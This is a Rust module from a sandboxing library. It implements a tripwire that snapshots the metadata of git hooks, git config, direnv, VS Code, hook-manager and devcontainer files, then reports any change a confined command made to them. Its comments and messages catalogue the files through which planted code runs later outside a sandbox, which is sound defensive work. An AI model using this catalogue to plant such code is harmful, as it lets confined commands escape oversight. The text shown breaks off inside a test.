//! A tripwire over the files that run later, outside the sandbox.
//!
//! The project is writable, and Landlock cannot carve a read-only hole in a
//! granted directory, so a confined command can plant code that the user
//! runs later, unconfined: a git hook, a `core.fsmonitor` line in
//! `.git/config`, an `.envrc`, an editor task. The sandbox cannot refuse
//! those writes without refusing `git commit` too; with a human watching,
//! it reports every change to them instead.
//!
//! A [`Snapshot`] records the identity of each such file from its metadata
//! alone (`lstat`: device, inode, size, modification and change times, mode
//! and file type; `readlink` for a symlink), which no write can preserve,
//! and never reads a file's contents. [`Snapshot::changes`] compares it with
//! the files as they are now.

use std::collections::{BTreeMap, HashSet};
use std::fmt;
use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use crate::git;
use crate::prepared::Prepared;
use crate::root::Origin;
use crate::root::RootKind;

/// How deep `.git/modules` is searched for submodules' git directories: a
/// submodule at `libs/net/tls` keeps its own under `modules/libs/net/tls`.
const MODULES_DEPTH: usize = 6;

/// The project's files, relative to its root, that a program outside the
/// sandbox runs or obeys without asking.
const PROJECT_FILES: &[(&str, Runs)] = &[
    (".envrc", Runs::Envrc),
    (".vscode/tasks.json", Runs::VscodeTasks),
    (".vscode/settings.json", Runs::VscodeSettings),
    // pre-commit's hook (once `pre-commit install` ran) reads it at every
    // commit; `repo: local` entries are commands.
    (".pre-commit-config.yaml", Runs::PreCommitConfig),
    (".pre-commit-config.yml", Runs::PreCommitConfig),
    // initializeCommand runs on the host when the container is built.
    (".devcontainer.json", Runs::Devcontainer),
    (".devcontainer/devcontainer.json", Runs::Devcontainer),
];

/// lefthook's configuration files (lefthook.dev/configuration): the main
/// one and the `-local` one, with or without a leading dot, in the project
/// or in `.config/` (without the dot there), in each format it reads.
const LEFTHOOK_NAMES: [&str; 2] = ["lefthook", "lefthook-local"];
const LEFTHOOK_FORMATS: [&str; 5] = ["yml", "yaml", "toml", "json", "jsonc"];

/// Directories of the project whose every entry runs later: husky's hooks
/// (`.husky/`, and `.husky/_/`, where `core.hooksPath` points), lefthook's
/// script directories (`.lefthook/<hook>/`, `.lefthook-local/<hook>/`), and
/// a dev container's other configurations (`.devcontainer/<name>/`): each
/// listed with its subdirectories one level down.
const PROJECT_DIRS: [(&str, Runs); 4] = [
    (".husky", Runs::Husky),
    (".lefthook", Runs::LefthookScript),
    (".lefthook-local", Runs::LefthookScript),
    (".devcontainer", Runs::Devcontainer),
];

/// Files under a git directory that git itself rewrites as data, and so
/// are not watched: reporting them would teach the person to ignore the
/// tripwire.
const GIT_REWRITES: [(&str, &str); 1] = [
    // Written by `git update-server-info`, which `git gc` and `git repack`
    // run (repack.updateServerInfo): the ref list dumb HTTP clients fetch.
    // No program runs or obeys it.
    (
        "info/refs",
        "rewritten by git gc and git repack: data for dumb HTTP clients",
    ),
];

/// What a watched file is, which says why a change to it matters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Runs {
    /// `.git` in the project: a directory, a `gitdir:` file or a symlink.
    DotGit,
    /// A worktree's `commondir` pointer.
    CommonDir,
    /// A git directory's `config` or `config.worktree`.
    GitConfig,
    /// The `hooks` directory itself.
    HooksDir,
    /// One entry of `hooks/`.
    Hook,
    /// The `info` directory itself.
    InfoDir,
    /// One entry of `info/`.
    Info,
    /// direnv's `.envrc`.
    Envrc,
    /// `.vscode/tasks.json`.
    VscodeTasks,
    /// `.vscode/settings.json`.
    VscodeSettings,
    /// `.pre-commit-config.yaml`.
    PreCommitConfig,
    /// A lefthook configuration file.
    Lefthook,
    /// A script in lefthook's script directories.
    LefthookScript,
    /// A husky hook.
    Husky,
    /// A dev container's `devcontainer.json`.
    Devcontainer,
}

/// The metadata a write cannot preserve, as `lstat` and `readlink` see it.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Identity {
    dev: u64,
    ino: u64,
    /// File type and permission bits.
    mode: u32,
    size: u64,
    mtime: (i64, i64),
    ctime: (i64, i64),
    /// Where a symlink points.
    target: Option<PathBuf>,
}

impl Identity {
    fn of(path: &Path) -> Option<Identity> {
        let meta = fs::symlink_metadata(path).ok()?;
        let ft = meta.file_type();
        let target = if ft.is_symlink() {
            fs::read_link(path).ok()
        } else {
            None
        };
        // A directory is watched for being replaced, not for its entries
        // changing (git itself creates and removes files in `.git` all the
        // time): its size and times are left out.
        let (size, mtime, ctime) = if ft.is_dir() {
            (0, (0, 0), (0, 0))
        } else {
            (
                meta.size(),
                (meta.mtime(), meta.mtime_nsec()),
                (meta.ctime(), meta.ctime_nsec()),
            )
        };
        Some(Identity {
            dev: meta.dev(),
            ino: meta.ino(),
            mode: meta.mode(),
            size,
            mtime,
            ctime,
            target,
        })
    }

    fn file_type(&self) -> u32 {
        self.mode & libc::S_IFMT
    }

    fn is_symlink(&self) -> bool {
        self.file_type() == libc::S_IFLNK
    }

    fn is_executable(&self) -> bool {
        self.mode & 0o111 != 0
    }

    /// What kind of file this is, for a person.
    fn type_name(&self) -> &'static str {
        match self.file_type() {
            libc::S_IFREG => "a regular file",
            libc::S_IFDIR => "a directory",
            libc::S_IFLNK => "a symlink",
            libc::S_IFIFO => "a fifo",
            libc::S_IFSOCK => "a socket",
            libc::S_IFCHR => "a character device",
            libc::S_IFBLK => "a block device",
            _ => "a file of unknown type",
        }
    }
}

/// A watched path that existed: what it is, and its identity when the
/// snapshot was taken (a path that did not exist is kept apart, in
/// `Snapshot::absent`).
#[derive(Debug, Clone, PartialEq, Eq)]
struct Entry {
    runs: Runs,
    identity: Option<Identity>,
}

/// A watched path, ordered as `Path` orders it (component by component)
/// but compared as bytes with `/` below every other byte, which is the same
/// order for the clean, absolute paths watched here: `Path`'s own
/// comparison walks components and was most of a snapshot's time.
#[derive(Debug, Clone)]
struct WatchedPath(PathBuf);

/// The order of [`WatchedPath`], on two paths.
fn watched_order(a: &Path, b: &Path) -> std::cmp::Ordering {
    let rank = |b: u8| if b == b'/' { 0 } else { u16::from(b) + 1 };
    let (a, b) = (
        a.as_os_str().as_encoded_bytes(),
        b.as_os_str().as_encoded_bytes(),
    );
    match a.iter().zip(b).find(|(x, y)| x != y) {
        Some((x, y)) => rank(*x).cmp(&rank(*y)),
        None => a.len().cmp(&b.len()),
    }
}

impl PartialEq for WatchedPath {
    fn eq(&self, other: &WatchedPath) -> bool {
        self.0.as_os_str() == other.0.as_os_str()
    }
}

impl Eq for WatchedPath {}

impl Ord for WatchedPath {
    fn cmp(&self, other: &WatchedPath) -> std::cmp::Ordering {
        watched_order(&self.0, &other.0)
    }
}

impl PartialOrd for WatchedPath {
    fn partial_cmp(&self, other: &WatchedPath) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

/// How a watched file changed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[cfg_attr(feature = "serde", derive(serde::Serialize))]
#[cfg_attr(feature = "serde", serde(rename_all = "kebab-case"))]
#[non_exhaustive]
pub enum ChangeKind {
    /// It did not exist and now does.
    Created,
    /// Its contents, owner, permissions or times changed (a symlink: its
    /// target), or it was replaced by another file of the same type.
    Modified,
    /// It existed and is gone.
    Deleted,
    /// It had no execute permission and now has some (its contents may
    /// have changed too).
    MadeExecutable,
    /// It is now a symlink, and was something else.
    ReplacedBySymlink,
    /// It is now another type of file (a directory where a file was, say),
    /// and not a symlink.
    Replaced,
}

impl ChangeKind {
    /// A short, stable name for programs: `created`, `modified`, `deleted`,
    /// `made-executable`, `replaced-by-symlink` or `replaced`.
    ///
    /// # Examples
    ///
    /// ```
    /// use strument_sandbox::tripwire::ChangeKind;
    /// assert_eq!(ChangeKind::MadeExecutable.name(), "made-executable");
    /// ```
    #[must_use]
    pub fn name(&self) -> &'static str {
        match self {
            ChangeKind::Created => "created",
            ChangeKind::Modified => "modified",
            ChangeKind::Deleted => "deleted",
            ChangeKind::MadeExecutable => "made-executable",
            ChangeKind::ReplacedBySymlink => "replaced-by-symlink",
            ChangeKind::Replaced => "replaced",
        }
    }
}

/// One change to a file that runs later, outside the sandbox.
///
/// Its `Display` is the line a person reads:
/// `.git/hooks/pre-commit was created: git runs it outside the sandbox at your next commit`.
#[derive(Debug, Clone, PartialEq, Eq)]
#[cfg_attr(feature = "serde", derive(serde::Serialize))]
#[non_exhaustive]
pub struct Change {
    /// The file, absolute.
    #[cfg_attr(feature = "serde", serde(serialize_with = "crate::serialize::path"))]
    pub path: PathBuf,
    /// The file as a person names it: relative to the project when it is
    /// inside, absolute otherwise.
    #[cfg_attr(feature = "serde", serde(serialize_with = "crate::serialize::path"))]
    pub name: PathBuf,
    /// What happened to it.
    pub kind: ChangeKind,
    /// Where it points now, when it is a symlink.
    #[cfg_attr(
        feature = "serde",
        serde(serialize_with = "crate::serialize::path_opt")
    )]
    pub target: Option<PathBuf>,
    /// Why it matters: who runs or obeys the file, and when.
    pub why: String,
    /// What the file is now, when it was replaced (`a directory`, …).
    #[cfg_attr(feature = "serde", serde(skip))]
    now: Option<&'static str>,
}

impl fmt::Display for Change {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = self.name.display();
        match (self.kind, &self.target) {
            (ChangeKind::Created, Some(target)) => {
                write!(f, "{name} was created as a symlink to {}", target.display())?
            }
            (ChangeKind::Created, None) => write!(f, "{name} was created")?,
            (ChangeKind::Modified, Some(target)) => {
                write!(f, "{name} was changed to point to {}", target.display())?;
            }
            (ChangeKind::Modified, None) => write!(f, "{name} was modified")?,
            (ChangeKind::Deleted, _) => write!(f, "{name} was deleted")?,
            (ChangeKind::MadeExecutable, _) => write!(f, "{name} was made executable")?,
            (ChangeKind::ReplacedBySymlink, target) => write!(
                f,
                "{name} was replaced by a symlink to {}",
                target.as_deref().unwrap_or(Path::new("?")).display()
            )?,
            (ChangeKind::Replaced, _) => write!(
                f,
                "{name} was replaced by {}",
                self.now.unwrap_or("another kind of file")
            )?,
        }
        write!(f, ": {}", self.why)
    }
}

/// The identity of every file under a project that runs later, outside the
/// sandbox, at one moment.
///
/// Watched, for the project and for each git directory it uses (its `.git`,
/// a worktree's own git directory and the common one, every submodule's
/// under `modules/`): `config`, `config.worktree`, every entry of `hooks/`
/// but git's inert `*.sample` files, every entry of `info/`, the `hooks`
/// and `info` directories themselves, the `.git` pointer, a worktree's
/// `commondir`, and each linked worktree's `config.worktree` and
/// `commondir` under `worktrees/`; in the project, `.envrc`, `.vscode/tasks.json`,
/// `.vscode/settings.json`, `.pre-commit-config.yaml`, lefthook's
/// configuration in every name it reads (`lefthook.yml`, `.lefthook.toml`,
/// `.config/lefthook-local.json`, …) and its script directories, husky's
/// `.husky/` and `.devcontainer.json` or `.devcontainer/` (initializeCommand).
/// Files that do not exist yet are watched too: a hook appearing is the
/// change that matters most. `info/refs`, which `git gc` rewrites, is not.
///
/// The git directories are found once, when the snapshot is taken; a
/// later snapshot ([`Snapshot::again`]) watches the same ones, so that a
/// rewritten `.git` file is reported, not followed.
///
/// # Examples
///
/// ```no_run
/// use std::process::Command;
/// use strument_sandbox::{Policy, tripwire::Snapshot, default_writable};
///
/// let project = std::path::Path::new("/home/me/project");
/// let prepared = Policy { writable: default_writable(project, None, &[])?, ..Policy::default() }.prepare()?;
/// let before = Snapshot::take(&prepared);
/// let mut cmd = Command::new("make");
/// prepared.confine(&mut cmd);
/// cmd.status()?;
/// for change in before.changes() {
///     eprintln!("{change}"); // ".git/hooks/pre-commit was created: git runs it …"
/// }
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Snapshot {
    project: PathBuf,
    /// `.git` in the project, then the git directories it leads to.
    git_dirs: Vec<PathBuf>,
    /// The watched paths that exist, with their identity.
    entries: BTreeMap<WatchedPath, Entry>,
    /// The watched paths that did not: kept only for
    /// [`Snapshot::watched`], since a path absent before and after is no
    /// change, and most of them are (the thirty-odd names a project may
    /// hold), so they cost no ordered insert and no step of the compare.
    absent: Vec<PathBuf>,
}

impl Snapshot {
    /// Takes a snapshot of the files that run later under the project a
    /// prepared policy confines a command to: its granted root of origin
    /// [`Origin::Project`], as [`default_writable`](crate::default_writable)
    /// names it, or, in a policy with no root of that origin, its first
    /// granted directory. With no granted project (a project that does not
    /// exist is skipped) there is nothing to watch and every comparison is
    /// empty.
    ///
    /// # Examples
    ///
    /// ```no_run
    /// use strument_sandbox::{Policy, tripwire::Snapshot};
    /// let prepared = Policy { writable: vec!["/home/me/project".into()], ..Policy::default() }.prepare()?;
    /// let snapshot = Snapshot::take(&prepared);
    /// assert_eq!(snapshot.project(), std::path::Path::new("/home/me/project"));
    /// # Ok::<(), strument_sandbox::ApplyError>(())
    /// ```
    #[must_use]
    pub fn take(prepared: &Prepared) -> Snapshot {
        Snapshot::take_with(prepared, None)
    }

    /// [`Snapshot::take`], watching `git_dirs` when the project's git layout
    /// was already read (by the policy a session built): the `.git`
    /// pointers are then read once for both.
    pub(crate) fn take_with(prepared: &Prepared, git_dirs: Option<Vec<PathBuf>>) -> Snapshot {
        // The project by its origin, not by its place: a project that was
        // skipped (missing) must not make the state directory or $TMPDIR
        // the place watched.
        let report = prepared.report();
        let named_project = report.granted.iter().any(|g| g.origin == Origin::Project)
            || report.skipped.iter().any(|s| s.origin == Origin::Project);
        let project = report
            .granted
            .iter()
            .filter(|g| g.kind == RootKind::Directory)
            .find(|g| !named_project || g.origin == Origin::Project)
            .map(|g| g.path.clone());
        match project {
            Some(project) => match git_dirs {
                Some(git_dirs) => Snapshot::with_git_dirs(project, git_dirs),
                None => Snapshot::of_project(&project),
            },
            None => Snapshot {
                project: PathBuf::new(),
                git_dirs: Vec::new(),
                entries: BTreeMap::new(),
                absent: Vec::new(),
            },
        }
    }

    /// Takes a snapshot of the files that run later under `project`, an
    /// absolute path (a relative one is taken against the current
    /// directory, as the file system does).
    ///
    /// Nothing here fails: a file that cannot be examined is recorded as
    /// absent, so a change that makes it unreadable is reported as a
    /// deletion rather than missed.
    ///
    /// # Examples
    ///
    /// ```
    /// use strument_sandbox::{tripwire::ChangeKind, tripwire::Snapshot};
    ///
    /// let project = tempfile::tempdir()?;
    /// std::fs::create_dir_all(project.path().join(".git/hooks"))?;
    /// let before = Snapshot::of_project(project.path());
    /// std::fs::write(project.path().join(".git/hooks/pre-commit"), "#!/bin/sh\n")?;
    /// std::fs::write(project.path().join("main.rs"), "fn main() {}\n")?; // not watched
    ///
    /// let changes = before.changes();
    /// assert_eq!(changes.len(), 1);
    /// assert_eq!(changes[0].kind, ChangeKind::Created);
    /// assert_eq!(changes[0].name, std::path::Path::new(".git/hooks/pre-commit"));
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    #[must_use]
    pub fn of_project(project: &Path) -> Snapshot {
        Snapshot::with_git_dirs(project.to_path_buf(), git::watched_git_dirs(project))
    }

    /// A snapshot of `project` watching `git_dirs`, as read from its `.git`.
    fn with_git_dirs(project: PathBuf, git_dirs: Vec<PathBuf>) -> Snapshot {
        let (entries, absent) = watch(&project, &git_dirs);
        Snapshot {
            project,
            git_dirs,
            entries,
            absent,
        }
    }

    /// The project root this snapshot watches.
    ///
    /// # Examples
    ///
    /// ```
    /// let snapshot = strument_sandbox::tripwire::Snapshot::of_project("/no/such/project".as_ref());
    /// assert_eq!(snapshot.project(), std::path::Path::new("/no/such/project"));
    /// assert!(snapshot.changes().is_empty());
    /// ```
    #[must_use]
    pub fn project(&self) -> &Path {
        &self.project
    }

    /// The paths watched, in order, whether they exist or not.
    ///
    /// # Examples
    ///
    /// ```
    /// let project = tempfile::tempdir()?;
    /// let snapshot = strument_sandbox::tripwire::Snapshot::of_project(project.path());
    /// assert!(snapshot.watched().any(|p| p.ends_with(".envrc")));
    /// # Ok::<(), std::io::Error>(())
    /// ```
    pub fn watched(&self) -> impl Iterator<Item = &Path> {
        let mut all: Vec<&Path> = self.entries.keys().map(|k| k.0.as_path()).collect();
        all.extend(self.absent.iter().map(PathBuf::as_path));
        all.sort_unstable_by(|a, b| watched_order(a, b));
        all.dedup();
        all.into_iter()
    }

    /// A new snapshot of the same files as they are now: the same git
    /// directories, their `hooks/`, `info/` and `modules/` listed afresh.
    ///
    /// # Examples
    ///
    /// ```
    /// let project = tempfile::tempdir()?;
    /// let first = strument_sandbox::tripwire::Snapshot::of_project(project.path());
    /// std::fs::write(project.path().join(".envrc"), "use nix\n")?;
    /// let second = first.again();
    /// assert_eq!(first.compare(&second).len(), 1);
    /// assert!(second.changes().is_empty());
    /// # Ok::<(), std::io::Error>(())
    /// ```
    #[must_use]
    pub fn again(&self) -> Snapshot {
        let (entries, absent) = watch(&self.project, &self.git_dirs);
        Snapshot {
            project: self.project.clone(),
            git_dirs: self.git_dirs.clone(),
            entries,
            absent,
        }
    }

    /// What changed between this snapshot and `later`, one [`Change`] per
    /// file, in path order.
    ///
    /// # Examples
    ///
    /// ```
    /// use strument_sandbox::{tripwire::ChangeKind, tripwire::Snapshot};
    /// let project = tempfile::tempdir()?;
    /// std::fs::write(project.path().join(".envrc"), "use nix\n")?;
    /// let before = Snapshot::of_project(project.path());
    /// std::fs::remove_file(project.path().join(".envrc"))?;
    /// let changes = before.compare(&before.again());
    /// assert_eq!(changes[0].kind, ChangeKind::Deleted);
    /// assert!(changes[0].to_string().starts_with(".envrc was deleted: direnv"));
    /// # Ok::<(), std::io::Error>(())
    /// ```
    #[must_use]
    pub fn compare(&self, later: &Snapshot) -> Vec<Change> {
        // Both maps are in the same order: one walk over the two, no lookups.
        let mut earlier = self.entries.iter().peekable();
        let mut current = later.entries.iter().peekable();
        let mut changes = Vec::new();
        loop {
            let (path, before, after) = match (earlier.peek(), current.peek()) {
                (None, None) => break,
                (Some((k, b)), None) => {
                    let item = (&k.0, Some(*b), None);
                    earlier.next();
                    item
                }
                (None, Some((k, a))) => {
                    let item = (&k.0, None, Some(*a));
                    current.next();
                    item
                }
                (Some((kb, b)), Some((ka, a))) => match kb.cmp(ka) {
                    std::cmp::Ordering::Less => {
                        let item = (&kb.0, Some(*b), None);
                        earlier.next();
                        item
                    }
                    std::cmp::Ordering::Greater => {
                        let item = (&ka.0, None, Some(*a));
                        current.next();
                        item
                    }
                    std::cmp::Ordering::Equal => {
                        let item = (&kb.0, Some(*b), Some(*a));
                        earlier.next();
                        current.next();
                        item
                    }
                },
            };
            let Some(runs) = after.or(before).map(|e| e.runs) else {
                continue;
            };
            let before = before.and_then(|e| e.identity.as_ref());
            let after = after.and_then(|e| e.identity.as_ref());
            let Some(kind) = change_kind(before, after) else {
                continue;
            };
            let now = after.map(Identity::type_name);
            changes.push(Change {
                path: path.clone(),
                name: path.strip_prefix(&self.project).map_or_else(
                    |_| path.clone(),
                    |p| {
                        if p.as_os_str().is_empty() {
                            path.clone()
                        } else {
                            p.to_path_buf()
                        }
                    },
                ),
                kind,
                target: after.and_then(|a| a.target.clone()),
                why: why(runs, path, kind),
                now,
            });
        }
        changes
    }

    /// What changed since this snapshot was taken: [`Snapshot::compare`]
    /// with [`Snapshot::again`]. Call it after each command, and once more
    /// at the end of a session: a process a command left running can
    /// change a file after the command itself returned.
    ///
    /// # Examples
    ///
    /// ```
    /// let project = tempfile::tempdir()?;
    /// let snapshot = strument_sandbox::tripwire::Snapshot::of_project(project.path());
    /// assert!(snapshot.changes().is_empty());
    /// # Ok::<(), std::io::Error>(())
    /// ```
    #[must_use]
    pub fn changes(&self) -> Vec<Change> {
        self.compare(&self.again())
    }
}

fn change_kind(before: Option<&Identity>, after: Option<&Identity>) -> Option<ChangeKind> {
    Some(match (before, after) {
        (None, None) => return None,
        (None, Some(_)) => ChangeKind::Created,
        (Some(_), None) => ChangeKind::Deleted,
        (Some(b), Some(a)) if a == b => return None,
        (Some(b), Some(a)) if a.file_type() != b.file_type() => {
            if a.is_symlink() {
                ChangeKind::ReplacedBySymlink
            } else {
                ChangeKind::Replaced
            }
        }
        (Some(b), Some(a)) if !b.is_executable() && a.is_executable() && !a.is_symlink() => {
            ChangeKind::MadeExecutable
        }
        _ => ChangeKind::Modified,
    })
}

/// The identity of every watched path that exists now, and the watched
/// paths that do not.
fn watch(project: &Path, git_dirs: &[PathBuf]) -> (BTreeMap<WatchedPath, Entry>, Vec<PathBuf>) {
    let mut entries = BTreeMap::new();
    let mut absent = Vec::new();
    if project.as_os_str().is_empty() {
        return (entries, absent);
    }
    // The project's own names, read once: most of the thirty-odd files
    // watched in it are absent, and a name not listed needs no `lstat`
    // (one listing instead of a failed call each, at every snapshot).
    let top: Option<HashSet<std::ffi::OsString>> = fs::read_dir(project).ok().map(|entries| {
        entries
            .filter_map(|e| e.ok().map(|e| e.file_name()))
            .collect()
    });
    let listed = |rel: &str| {
        let first = rel.split('/').next().unwrap_or(rel);
        top.as_ref()
            .is_none_or(|top| top.contains(std::ffi::OsStr::new(first)))
    };
    // A file that cannot be examined counts as absent, as it always has:
    // a change that makes it unreadable is reported as a deletion.
    let mut add_maybe = |path: PathBuf, runs: Runs, maybe: bool| {
        let identity = if maybe { Identity::of(&path) } else { None };
        if identity.is_some() {
            entries.insert(WatchedPath(path), Entry { runs, identity });
        } else {
            absent.push(path);
        }
    };
    add_maybe(project.join(".git"), Runs::DotGit, listed(".git"));
    for (rel, runs) in PROJECT_FILES {
        add_maybe(project.join(rel), *runs, listed(rel));
    }
    for name in LEFTHOOK_NAMES {
        for format in LEFTHOOK_FORMATS {
            for rel in [
                format!("{name}.{format}"),
                format!(".{name}.{format}"),
                format!(".config/{name}.{format}"),
            ] {
                let maybe = listed(&rel);
                add_maybe(project.join(rel), Runs::Lefthook, maybe);
            }
        }
    }
    let mut add = |path: PathBuf, runs: Runs| add_maybe(path, runs, true);
    for (rel, runs) in PROJECT_DIRS {
        if !listed(rel) {
            continue;
        }
        let dir = project.join(rel);
        for name in list(&dir) {
            let entry = dir.join(&name);
            // A subdirectory's entries too (`.husky/_/pre-commit`,
            // `.lefthook/pre-commit/lint.sh`), never through a symlink.
            if fs::symlink_metadata(&entry).is_ok_and(|m| m.is_dir()) {
                for inner in list(&entry) {
                    add(entry.join(inner), runs);
                }
            }
            add(entry, runs);
        }
    }
    for dir in git_dirs {
        watch_git_dir(dir, MODULES_DEPTH, &mut add);
    }
    (entries, absent)
}

fn watch_git_dir(dir: &Path, depth: usize, add: &mut dyn FnMut(PathBuf, Runs)) {
    add(dir.join("config"), Runs::GitConfig);
    add(dir.join("config.worktree"), Runs::GitConfig);
    add(dir.join("commondir"), Runs::CommonDir);
    add(dir.join("hooks"), Runs::HooksDir);
    for name in list(&dir.join("hooks")) {
        // git never runs `pre-commit.sample`; renaming it makes a new name,
        // which is reported.
        if !name.to_string_lossy().ends_with(".sample") {
            add(dir.join("hooks").join(name), Runs::Hook);
        }
    }
    add(dir.join("info"), Runs::InfoDir);
    for name in list(&dir.join("info")) {
        let rel = Path::new("info").join(&name);
        if GIT_REWRITES
            .iter()
            .all(|(rewritten, _)| rel != Path::new(rewritten))
        {
            add(dir.join(rel), Runs::Info);
        }
    }
    // Linked worktrees' own git directories: git in each worktree obeys
    // its `config.worktree` and follows its `commondir`.
    for name in list(&dir.join("worktrees")) {
        let worktree = dir.join("worktrees").join(name);
        add(worktree.join("config.worktree"), Runs::GitConfig);
        add(worktree.join("commondir"), Runs::CommonDir);
    }
    watch_modules(&dir.join("modules"), depth, add);
}

/// Submodules' git directories under `modules/`, found by their `HEAD`.
fn watch_modules(dir: &Path, depth: usize, add: &mut dyn FnMut(PathBuf, Runs)) {
    if depth == 0 {
        return;
    }
    for name in list(dir) {
        let sub = dir.join(name);
        if !fs::symlink_metadata(&sub).is_ok_and(|m| m.is_dir()) {
            continue;
        }
        if fs::symlink_metadata(sub.join("HEAD")).is_ok() {
            watch_git_dir(&sub, depth - 1, add);
        } else {
            watch_modules(&sub, depth - 1, add);
        }
    }
}

/// The names in a directory; none when it cannot be read.
fn list(dir: &Path) -> Vec<std::ffi::OsString> {
    let Ok(entries) = fs::read_dir(dir) else {
        return Vec::new();
    };
    entries
        .filter_map(|e| e.ok().map(|e| e.file_name()))
        .collect()
}

/// Why a change to `path` matters, for a person.
fn why(runs: Runs, path: &Path, kind: ChangeKind) -> String {
    let name = path
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    match runs {
        Runs::DotGit => "it tells git where the repository is: git outside the sandbox runs the \
             hooks and obeys the config it finds there"
            .into(),
        Runs::CommonDir => "it tells git where the worktree's repository is: git outside the \
             sandbox runs the hooks and obeys the config it finds there"
            .into(),
        Runs::GitConfig => "git obeys it outside the sandbox on every command; settings there \
             run programs (core.hooksPath, core.fsmonitor, core.pager, core.sshCommand, \
             filters, aliases, include)"
            .into(),
        Runs::HooksDir => "git runs the hooks in it outside the sandbox".into(),
        Runs::Hook if kind == ChangeKind::Deleted => {
            format!("git no longer runs it {}", hook_when(&name))
        }
        Runs::Hook => format!("git runs it outside the sandbox {}", hook_when(&name)),
        Runs::InfoDir => "git obeys the files in it outside the sandbox".into(),
        Runs::Info if name == "attributes" => "git obeys it outside the sandbox: it picks the \
             filter and diff programs git runs on files"
            .into(),
        Runs::Info => "git reads it outside the sandbox".into(),
        Runs::Envrc => "direnv runs it in your shell, outside the sandbox, when you enter the \
             directory (once allowed)"
            .into(),
        Runs::VscodeTasks => "VS Code runs its tasks outside the sandbox (one marked \
             runOn: folderOpen as soon as the folder opens)"
            .into(),
        Runs::VscodeSettings => "VS Code obeys it outside the sandbox: settings there name \
             programs it runs (formatters, linters, interpreters, terminal environment)"
            .into(),
        Runs::PreCommitConfig => "pre-commit's git hook runs the hooks it names outside the \
             sandbox at your next commit (`repo: local` entries are any command)"
            .into(),
        Runs::Lefthook => "lefthook's git hooks run the commands in it outside the sandbox at \
             your next commit, push or checkout"
            .into(),
        Runs::LefthookScript => {
            "lefthook's git hooks run the scripts here outside the sandbox".into()
        }
        Runs::Husky => "husky's git hooks (core.hooksPath) run it outside the sandbox at your \
             next commit, push or checkout"
            .into(),
        Runs::Devcontainer => "VS Code and the devcontainer CLI run its initializeCommand on \
             the host, outside the sandbox, when the container is built or reopened"
            .into(),
    }
}

/// When git runs a hook of this name.
fn hook_when(name: &str) -> &'static str {
    match name {
        "pre-commit" | "prepare-commit-msg" | "commit-msg" | "post-commit" | "pre-merge-commit" => {
            "at your next commit"
        }
        "pre-push" => "at your next push",
        "post-checkout" => "at your next checkout, switch or clone",
        "post-merge" => "at your next merge or pull",
        "pre-rebase" => "at your next rebase",
        "post-rewrite" => "at your next amend or rebase",
        "reference-transaction" => "whenever a ref changes (commit, fetch, checkout, …)",
        "post-index-change" => "whenever the index is written (status, add, checkout, …)",
        "fsmonitor-watchman" => "on every command reading the index, if core.fsmonitor names it",
        "pre-auto-gc" => "before an automatic gc, which many commands start",
        "applypatch-msg" | "pre-applypatch" | "post-applypatch" => "at your next `git am`",
        "sendemail-validate" => "at your next `git send-email`",
        "pre-receive" | "update" | "post-receive" | "post-update" | "proc-receive"
        | "push-to-checkout" => "when something is pushed into this repository",
        _ => "if a tool (git, a hook manager) knows a hook of that name",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::PermissionsExt;

    fn project() -> tempfile::TempDir {
        let dir = tempfile::tempdir().expect("tempdir");
        fs::create_dir_all(dir.path().join(".git/hooks")).expect("hooks");
        fs::create_dir_all(dir.path().join(".git/info")).expect("info");
        fs::write(dir.path().join(".git/config"), "[core]\n").expect("config");
        fs::write(dir.path().join(".git/HEAD"), "ref: refs/heads/main\n").expect("HEAD");
        dir
    }

    fn kinds(changes: &[Change]) -> Vec<(String, &'static str)> {
        changes
            .iter()
            .map(|c| (c.name.to_string_lossy().into_owned(), c.kind.name()))
            .collect()
    }

    #[test]
    fn watched_paths_sort_as_paths_do() {
        let names = [
            "/p/.lefthook/pre-commit/x.sh",
            "/p/.lefthook-local.json",
            "/p/.lefthook",
            "/p/.git/hooks/pre-commit",
            "/p/.git-blame-ignore",
            "/p/.git",
            "/p/a b",
            "/p/a",
            "/p/a/b",
            "/p/a.b",
            "/p/A",
        ];
        let mut by_path: Vec<PathBuf> = names.iter().map(PathBuf::from).collect();
        by_path.sort();
        let mut by_key: Vec<WatchedPath> = names.iter().map(|n| WatchedPath(n.into())).collect();
        by_key.sort();
        let by_key: Vec<PathBuf> = by_key.into_iter().map(|k| k.0).collect();
        assert_eq!(by_key, by_path);
    }

    #[test]
    fn each_kind_of_change_is_told_apart() {
        let dir = project();
        let p = dir.path();
        fs::write(p.join(".git/hooks/pre-push"), "#!/bin/sh\n").expect("write");
        fs::write(p.join(".git/hooks/post-merge"), "#!/bin/sh\n").expect("write");
        fs::write(p.join(".envrc"), "use nix\n").expect("write");
        fs::write(p.join(".git/info/attributes"), "").expect("write");
        let before = Snapshot::of_project(p);
        assert!(before.changes().is_empty(), "nothing changed yet");

        fs::write(p.join(".git/hooks/pre-commit"), "#!/bin/sh\n").expect("create");
        fs::write(p.join(".git/config"), "[core]\n\tfsmonitor = x\n").expect("modify");
        fs::remove_file(p.join(".envrc")).expect("delete");
        fs::set_permissions(
            p.join(".git/hooks/pre-push"),
            fs::Permissions::from_mode(0o755),
        )
        .expect("chmod");
        fs::remove_file(p.join(".git/hooks/post-merge")).expect("rm");
        std::os::unix::fs::symlink("/bin/true", p.join(".git/hooks/post-merge")).expect("ln");
        fs::remove_file(p.join(".git/info/attributes")).expect("rm");
        fs::create_dir(p.join(".git/info/attributes")).expect("mkdir");
        fs::write(p.join(".git/hooks/pre-commit.sample"), "inert").expect("sample");
        fs::write(p.join("src.rs"), "not watched").expect("write");

        let changes = before.changes();
        assert_eq!(
            kinds(&changes),
            [
                (".envrc".into(), "deleted"),
                (".git/config".into(), "modified"),
                (".git/hooks/post-merge".into(), "replaced-by-symlink"),
                (".git/hooks/pre-commit".into(), "created"),
                (".git/hooks/pre-push".into(), "made-executable"),
